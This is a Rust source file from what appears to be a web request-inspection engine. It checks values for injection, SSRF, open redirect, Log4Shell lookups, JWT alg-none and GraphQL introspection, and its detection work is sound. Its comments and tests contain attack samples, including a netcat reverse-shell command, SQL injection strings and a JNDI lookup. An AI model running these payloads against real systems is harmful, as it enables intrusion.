//! One value: how it is normalised (not at all when it is plain), and
//! every check run on it in turn: encoding findings, the rule sets,
//! keyword lists, the tokenizers, SSRF and Log4Shell, and the text a
//! base64 value decodes to.

use super::Engine;
use super::embedded;
use super::encoding;
use super::tokenizers;
use super::{php_pieces, split_command};
use crate::detect::collect::Collector;
use crate::detect::kind::{Kind, Severity};
use crate::detect::libinj;
use crate::detect::normalize::{self, Normalized, is_plain, is_text};
use crate::detect::rules::targets;
use crate::detect::{graphql, jwt, log4shell, protocol, redirect, serialized, ssrf};

/// How a value is encoded where it was found.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Encoding {
    /// Query string or form: `%XX` and `+`.
    Form,
    /// Path or cookie: `%XX`.
    Url,
    /// Anything else (headers, JSON, XML): decoded anyway, no encoding findings.
    Text,
    /// A query parameter of the Referer: `%XX` and `+`, but its encoding is
    /// another page's, so only a NUL counts, and as in a header.
    Referer,
    /// Text a base64 value decoded to: the rules only (no tokenizers).
    Base64,
    /// A key or string of a JSON document inside a value: as `Text`, but
    /// no document is looked for inside it again.
    Embedded,
}

impl Encoding {
    /// A short tag of the encoding (the clean cache's keys).
    pub(super) fn tag(self) -> &'static str {
        match self {
            Encoding::Form => "f",
            Encoding::Url => "u",
            Encoding::Text => "t",
            Encoding::Referer => "r",
            Encoding::Base64 => "b",
            Encoding::Embedded => "j",
        }
    }
}

/// A value read as a GraphQL document, as sent (URL-decoded only where
/// the value was), when it is one.
fn graphql_document(raw: &[u8], enc: Encoding) -> Option<graphql::Document> {
    graphql::read(&embedded::decoded_once(raw, enc))
}

/// Index of a target bit.
fn bit(t: u16) -> usize {
    t.trailing_zeros() as usize
}

impl Engine {
    /// Normalizes one value and runs every check that applies to `target`.
    pub(super) fn scan(
        &self,
        c: &mut Collector,
        value: &str,
        target: u16,
        loc: &dyn Fn() -> String,
        enc: Encoding,
    ) {
        if value.is_empty() {
            return;
        }
        let raw = value.as_bytes();
        let binary = binary_target(raw, target);
        if binary != target && target & targets::DOC != 0 {
            self.scan_binary(c, value, target, loc, enc);
            return;
        }
        let target = binary;
        let plain = is_plain(raw)
            || (target == targets::HEADERS && is_quiet_custom_header(raw))
            || (target == targets::UA_REF && is_quiet_user_agent(raw));
        let n = if plain {
            Normalized::plain(raw)
        } else {
            Normalized::new(raw, matches!(enc, Encoding::Form | Encoding::Referer))
        };
        let mut location: Option<String> = None;
        let at = |location: &mut Option<String>| location.get_or_insert_with(loc).clone();
        if !plain {
            encoding::findings(c, &n, target, enc, &mut || at(&mut location), value);
        }
        self.compiled.scan(bit(target), &n, plain, &mut |hit| {
            let m = String::from_utf8_lossy(hit.matched);
            let l = at(&mut location);
            c.add(
                hit.rule.kind,
                hit.rule.id,
                hit.rule.severity_at(self.cfg.paranoia),
                hit.rule.paranoia,
                &l,
                &m,
                value,
            );
        });
        self.keyword_weights(c, &n, &mut || at(&mut location));
        // Tokens are plain text: read before the plain values return.
        if memchr::memmem::find(&n.dec, b"eyJ").is_some() {
            self.jwt(c, &n.dec, loc, value);
        }
        // Serialized objects sent base64-encoded, plain letters included.
        if target & serialized::TARGETS != 0 && enc != Encoding::Base64 {
            serialized::findings(c, &n.dec, &mut || at(&mut location), value);
        }
        if plain {
            return;
        }
        // A GraphQL document: each string argument is read as a parameter
        // of its own; the tokenizers read a whole document's strings
        // alone, not in the syntax around them (`search(q: "O'Brien")`).
        let doc = (target & (targets::ARGS | targets::DOC) != 0
            && enc != Encoding::Base64
            && graphql::starts_document(&n.dec))
        .then(|| graphql_document(raw, enc))
        .flatten();
        // A JSON document inside: its strings are read alone (below), its
        // whole text too (pasted raw into a query, `["x'or","<>p"]` is SQL).
        let items = doc
            .is_none()
            .then(|| self.embedded_json(raw, &n.dec, target, enc));
        let items = items.flatten();
        if enc != Encoding::Base64 && !doc.as_ref().is_some_and(|d| d.whole) {
            let t = (target, items.is_some());
            tokenizers::run(c, &n, t, &mut || at(&mut location), value);
        }
        self.ssrf(c, &n, target, &mut || at(&mut location), value);
        log4shell_lookups(c, &n, &mut || at(&mut location), value);
        // Names spelled so that only a shell or PHP reads them as one.
        if target & targets::INPUT != 0 {
            let found = [
                split_command::find(&n.low).map(|w| (Kind::Cmdi, "cmdi-split-command", w)),
                php_pieces::find(&n.low).map(|w| (Kind::CodeInjection, "php-assembled-call", w)),
            ];
            for (kind, rule, word) in found.into_iter().flatten() {
                let l = at(&mut location);
                c.add(kind, rule, Severity::Critical, 1, &l, &word, value);
            }
        }
        // Payloads sent base64-encoded (cookies, tokens, `eval` arguments):
        // scan what they decode to when it is code-like text.
        if target & (targets::ARGS | targets::NAMES | targets::HEADERS | targets::UA_REF) != 0
            && enc != Encoding::Base64
            && let Some(text) = normalize::base64_text(&n.dec)
        {
            let inner = || format!("{}(base64)", loc());
            self.scan(c, &text, target, &inner, Encoding::Base64);
        }
        // The same for a `data:` URI's base64 payload, in documents too
        // (`data:;base64,PD9waHAg...` included as a file).
        if target
            & (targets::ARGS | targets::NAMES | targets::DOC | targets::HEADERS | targets::UA_REF)
            != 0
            && enc != Encoding::Base64
            && let Some(text) = normalize::data_uri_text(&n.dec)
        {
            let inner = || format!("{}(data-uri)", loc());
            self.scan(c, &text, target, &inner, Encoding::Base64);
        }
        if let Some(items) = items {
            self.scan_embedded_json(c, &items, loc);
        }
        if let Some(doc) = doc {
            self.graphql(c, &doc, target, loc, value);
        }
    }

    /// The JSON Web Tokens of a value: `alg: none` is critical, and the
    /// header's key id and key URLs are read as parameters.
    fn jwt(&self, c: &mut Collector, dec: &[u8], loc: &dyn Fn() -> String, value: &str) {
        let (headers, overflow) = jwt::headers(dec);
        if overflow {
            let l = loc();
            let max = jwt::TOKENS_MAX.to_string();
            c.add(
                Kind::Jwt,
                "jwt-too-many-tokens",
                Severity::Critical,
                1,
                &l,
                &max,
                value,
            );
        }
        for h in headers {
            if let Some(alg) = &h.alg_none {
                let l = loc();
                c.add(
                    Kind::Jwt,
                    "jwt-alg-none",
                    Severity::Critical,
                    1,
                    &l,
                    alg,
                    value,
                );
            }
            for (name, v) in &h.values {
                let inner = || format!("{}(jwt {name})", loc());
                self.scan(c, v, targets::ARGS, &inner, Encoding::Text);
            }
        }
    }

    /// The findings of a GraphQL document: an introspection query counts,
    /// and each string argument is scanned as a parameter.
    fn graphql(
        &self,
        c: &mut Collector,
        doc: &graphql::Document,
        target: u16,
        loc: &dyn Fn() -> String,
        value: &str,
    ) {
        if let Some(field) = doc.introspection {
            let l = loc();
            c.add(
                Kind::Graphql,
                "graphql-introspection",
                Severity::Error,
                1,
                &l,
                field,
                value,
            );
        }
        if doc.overflow {
            let l = loc();
            let max = graphql::MAX_STRINGS.to_string();
            c.add(
                Kind::Graphql,
                "graphql-too-many-strings",
                Severity::Critical,
                1,
                &l,
                &max,
                value,
            );
        }
        let inner = || format!("{}(graphql)", loc());
        for s in &doc.strings {
            self.scan(c, s, target, &inner, Encoding::Text);
        }
    }

    /// A value that looks like binary data (a compressed blob, an image
    /// in a form field): the file-content rules on all of it, and every
    /// rule of `target` on its text: the runs of at least [`MIN_RUN`]
    /// printable ASCII characters (NUL bytes removed first, as the
    /// normaliser removes them), one a line. A NUL or a few control
    /// characters added to a payload make its value binary, never
    /// uninspected.
    pub(super) fn scan_binary(
        &self,
        c: &mut Collector,
        value: &str,
        target: u16,
        loc: &dyn Fn() -> String,
        enc: Encoding,
    ) {
        self.scan(c, value, targets::FILE, loc, enc);
        let text = text_runs(value);
        if !text.is_empty() {
            let inner = || format!("{}(text)", loc());
            // Text by construction: `scan` reads it as text.
            self.scan(c, &text, target, &inner, enc);
        }
    }

    /// The weights of the operator's keyword lists found in the folded value.
    fn keyword_weights(&self, c: &mut Collector, n: &Normalized, loc: &mut dyn FnMut() -> String) {
        if !self.operator.has_keywords() {
            return;
        }
        let low = crate::http::lossy(&n.low);
        let hits: Vec<(String, u32, String)> = self
            .operator
            .keywords(&low)
            .map(|(i, w, m)| (i.to_owned(), w, m.to_owned()))
            .collect();
        for (id, w, m) in hits {
            let l = loc();
            c.weigh(&id, i64::from(w), &l, &m);
        }
    }

    /// Server-side request forgery (a URL to an internal or metadata host)
    /// in inputs, and a URL to a public IP address in parameters (remote
    /// file inclusion).
    fn ssrf(
        &self,
        c: &mut Collector,
        n: &Normalized,
        target: u16,
        loc: &mut dyn FnMut() -> String,
        value: &str,
    ) {
        if target & (targets::ARGS | targets::NAMES | targets::BODY | targets::DOC | targets::PATH)
            != 0
            && let Some((class, host)) = ssrf::check(&n.low)
        {
            let l = loc();
            c.add(
                Kind::Ssrf,
                class.rule(),
                class.severity(),
                1,
                &l,
                &host,
                value,
            );
        }
        // A redirect target in a field, or a path a server may redirect to
        // with its own slash added (`GET /\evil.example`).
        if target & (targets::ARGS | targets::DOC | targets::PATH) != 0
            && let Some((trick, host)) = redirect::check(&n.dec)
            && (target != targets::PATH || trick == redirect::Trick::Slashes)
        {
            let l = loc();
            c.add(
                Kind::OpenRedirect,
                trick.rule(),
                trick.severity(),
                1,
                &l,
                &String::from_utf8_lossy(host),
                value,
            );
        }
        if target & (targets::ARGS | targets::DOC) != 0
            && let Some(host) = protocol::public_ip_url(&n.low)
        {
            let l = loc();
            c.add(
                Kind::Rfi,
                "rfi-ip-url",
                Severity::Critical,
                1,
                &l,
                &host,
                value,
            );
        }
    }
}

/// Log4Shell-style lookups: `${jndi:...}`, and lookups that leak data.
fn log4shell_lookups(
    c: &mut Collector,
    n: &Normalized,
    loc: &mut dyn FnMut() -> String,
    value: &str,
) {
    let (rule, severity, m) = match log4shell::check(&n.low) {
        Some(log4shell::Lookup::Jndi(m)) => ("log4shell-jndi", Severity::Critical, m),
        Some(log4shell::Lookup::Data(m)) => ("log4shell-lookup", Severity::Error, m),
        Some(log4shell::Lookup::Interpolator(m)) => ("text4shell-lookup", Severity::Critical, m),
        None => return,
    };
    let l = loc();
    c.add(Kind::Log4shell, rule, severity, 1, &l, &m, value);
}

/// Shortest run of printable characters [`Engine::scan_binary`] reads
/// as text (random bytes seldom make one: about 2 in 10,000 positions).
const MIN_RUN: usize = 8;

/// The runs of at least [`MIN_RUN`] printable ASCII characters (and
/// tabs, line breaks) of `value` once its NUL characters are removed,
/// joined by line feeds.
fn text_runs(value: &str) -> String {
    let mut out = String::new();
    let mut run = String::new();
    let flush = |run: &mut String, out: &mut String| {
        if run.len() >= MIN_RUN {
            if !out.is_empty() {
                out.push('\n');
            }
            out.push_str(run);
        }
        run.clear();
    };
    for ch in value.chars() {
        match ch {
            '\0' => {}
            ' '..='~' | '\t' | '\r' | '\n' => run.push(ch),
            _ => flush(&mut run, &mut out),
        }
    }
    flush(&mut run, &mut out);
    out
}

/// The shortest value read as binary data: a shorter one with a NUL or
/// control characters is a payload with an evasion (`*))\0`), not data.
const BINARY_MIN: usize = 32;

/// Whether a body or document value, or a multipart field, is binary
/// data: at least [`BINARY_MIN`] bytes, and not text.
pub(super) fn is_binary(raw: &[u8]) -> bool {
    raw.len() >= BINARY_MIN && !is_text(raw)
}

/// Binary data only meets the few rules meant for file contents: a raw
/// body of another type (protobuf) as a whole; a document value
/// (compressed blobs in JSON strings) also has its text read
/// ([`Engine::scan_binary`]). Values of the request line, headers and
/// forms are never binary: a raw NUL there is an evasion.
fn binary_target(raw: &[u8], target: u16) -> u16 {
    if target & (targets::DOC | targets::BODY) != 0 && is_binary(raw) {
        targets::FILE
    } else {
        target
    }
}

/// Whether a header value holds nothing the full rule set cares about:
/// none of `$ { } < > ' ` \ % | & [ ] ^ ~` nor a line break, and no `--`,
/// `..` or `/*` (Accept, Sec-Ch-Ua, Cache-Control...). Such values meet the
/// plain rules only.
pub(super) fn is_quiet_header(b: &[u8]) -> bool {
    // One pass: the loud bytes end it; `-`, `.` and `/` look at their
    // neighbours.
    const SEEN: [u8; 256] = {
        let mut t = [0u8; 256];
        let loud = b"${}<>'`\\%|&[]^~\n\r";
        let mut i = 0;
        while i < loud.len() {
            t[loud[i] as usize] = 1;
            i += 1;
        }
        t[b'-' as usize] = 2;
        t[b'.' as usize] = 2;
        t[b'/' as usize] = 3;
        t
    };
    for (i, &c) in b.iter().enumerate() {
        match SEEN[usize::from(c)] {
            0 => {}
            1 => return false,
            2 if b.get(i + 1) == Some(&c) => return false,
            // `*/*` (Accept) is no comment.
            3 if b.get(i + 1) == Some(&b'*') && (i == 0 || b[i - 1] != b'*') => return false,
            _ => {}
        }
    }
    true
}

/// A header value that meets the plain rules only: quiet, and without
/// what SQL or a shell reads with no punctuation a header lacks (an SQL
/// word: `-1 UNION ALL SELECT NULL,@@version`; a `#`; a command after a
/// `;`: `; nc -e /bin/sh host 4444`, where a parameter is `; q=0.9`).
pub(super) fn is_quiet_custom_header(b: &[u8]) -> bool {
    is_quiet_header(b)
        && memchr::memchr(b'#', b).is_none()
        && !memchr::memchr_iter(b';', b).any(|i| command_after(&b[i + 1..]))
        && !libinj::has_sql_word(b)
}

/// Headers of HTTP itself and of browsers, with a grammar of their own
/// (media types, languages, tokens, dates, client hints): any other
/// header is the application's, always read as a parameter too.
pub(super) fn is_protocol_header(name: &str) -> bool {
    const NAMES: &[&str] = &[
        "accept",
        "accept-charset",
        "accept-encoding",
        "accept-language",
        "access-control-request-headers",
        "access-control-request-method",
        "authorization",
        "cache-control",
        "connection",
        "content-encoding",
        "content-language",
        "content-length",
        "content-type",
        "date",
        "device-memory",
        "dnt",
        "downlink",
        "dpr",
        "ect",
        "expect",
        "host",
        "if-match",
        "if-modified-since",
        "if-none-match",
        "if-range",
        "if-unmodified-since",
        "keep-alive",
        "origin",
        "pragma",
        "priority",
        "purpose",
        "range",
        "rtt",
        "save-data",
        "te",
        "traceparent",
        "tracestate",
        "upgrade",
        "upgrade-insecure-requests",
        "viewport-width",
        "x-client-data",
        "x-requested-with",
    ];
    let n = name.as_bytes();
    (n.len() > 4 && n[..4].eq_ignore_ascii_case(b"sec-"))
        || NAMES.iter().any(|k| k.as_bytes().eq_ignore_ascii_case(n))
}

/// Whether text after a `;` starts with a word and then a space or the
/// end (a command), not a parameter (`q=0.9`, `charset=utf-8`).
fn command_after(rest: &[u8]) -> bool {
    let rest = rest.trim_ascii_start();
    let word = rest
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'/' | b'-'))
        .count();
    word > 0 && rest.get(word).is_none_or(|c| c.is_ascii_whitespace())
}

/// A browser-like User-Agent: quiet as a header, no quotes or `=`, no SQL
/// word. Such values meet the plain rules only.
pub(super) fn is_quiet_user_agent(b: &[u8]) -> bool {
    // The prefix first: a Referer (also read here) fails it at once.
    b.starts_with(b"Mozilla/")
        && is_quiet_header(b)
        && !b.iter().any(|c| matches!(c, b'\'' | b'"' | b'=' | b'#'))
        && !libinj::has_sql_word(b)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::detect::normalize::has_pair;

    /// `is_quiet_header` as first written, in several passes.
    fn quiet_header_reference(b: &[u8]) -> bool {
        const LOUD: [bool; 256] = normalize::byte_set(b"${}<>'`\\%|&[]^~\n\r");
        !b.iter().any(|&c| LOUD[usize::from(c)])
            && !has_pair(b, b'-', b'-')
            && !has_pair(b, b'.', b'.')
            && !memchr::memchr_iter(b'/', b)
                .any(|i| b.get(i + 1) == Some(&b'*') && (i == 0 || b[i - 1] != b'*'))
    }

    proptest! {
        #[test]
        fn quiet_header_in_one_pass_agrees(b in proptest::collection::vec(
            prop_oneof![
                Just(b'-'), Just(b'.'), Just(b'/'), Just(b'*'), Just(b'a'), Just(b' '),
                Just(b'$'), Just(b'%'), Just(b'\n'), any::<u8>(),
            ],
            0..40,
        )) {
            prop_assert_eq!(is_quiet_header(&b), quiet_header_reference(&b));
        }
    }

    #[test]
    fn protocol_headers_are_known_by_name_in_any_case() {
        for n in [
            "Accept",
            "accept-language",
            "Sec-CH-UA",
            "sec-fetch-mode",
            "TRACEPARENT",
        ] {
            assert!(is_protocol_header(n), "{n}");
        }
        for n in [
            "X-Request-Data",
            "x-csrftoken",
            "sec-",
            "Acceptx",
            "x-accept",
            "referer",
        ] {
            assert!(!is_protocol_header(n), "{n}");
        }
    }

    #[test]
    fn custom_headers_with_sql_words_or_commands_are_not_quiet() {
        for h in [
            "text/html,application/xhtml+xml,*/*;q=0.8",
            "application/json; charset=utf-8",
            "max-age=0",
            "gzip, deflate, br",
            "en-US,en;q=0.9",
        ] {
            assert!(is_quiet_custom_header(h.as_bytes()), "{h}");
        }
        for h in [
            "-1 UNION ALL SELECT NULL,NULL,@@version",
            "; nc -e /bin/sh 203.0.113.7 4444",
            "1) OR 1=1#",
            "x;id",
        ] {
            assert!(!is_quiet_custom_header(h.as_bytes()), "{h}");
        }
    }

    #[test]
    fn quiet_headers_hold_no_code_punctuation() {
        for h in [
            "text/html,application/xhtml+xml,*/*;q=0.8",
            "max-age=0",
            "\"Chromium\";v=\"120\", \"Not?A_Brand\";v=\"24\"",
        ] {
            assert!(is_quiet_header(h.as_bytes()), "{h}");
        }
        for h in ["${jndi:x}", "a--b", "../x", "a/*b", "a%27", "a\nb", "x|y"] {
            assert!(!is_quiet_header(h.as_bytes()), "{h}");
        }
    }

    #[test]
    fn quiet_user_agents_look_like_browsers() {
        let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)";
        assert!(is_quiet_user_agent(ua.as_bytes()));
        assert!(!is_quiet_user_agent(b"curl/8.5.0"));
        assert!(!is_quiet_user_agent(b"Mozilla/5.0 (x' or 1=1)"));
    }

    #[test]
    fn binary_documents_meet_the_file_rules() {
        let blob = [0u8, 1, 2, 3].repeat(10);
        assert_eq!(binary_target(&blob, targets::DOC), targets::FILE);
        assert_eq!(binary_target(&blob, targets::ARGS), targets::ARGS);
        assert_eq!(binary_target(&blob[..16], targets::BODY), targets::BODY);
        assert_eq!(binary_target(&[b'a'; 40], targets::BODY), targets::BODY);
    }
}
